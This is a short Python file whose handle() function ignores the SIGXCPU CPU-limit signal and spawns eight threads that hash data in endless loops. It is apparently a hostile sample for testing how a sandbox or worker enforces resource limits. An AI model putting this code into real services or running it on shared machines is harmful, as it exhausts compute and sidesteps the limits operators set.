import hashlib
import signal
import threading


def burn():
    while True:
        hashlib.sha256(bytes(1 << 20)).digest()


def handle(payload):
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    threads = [threading.Thread(target=burn) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
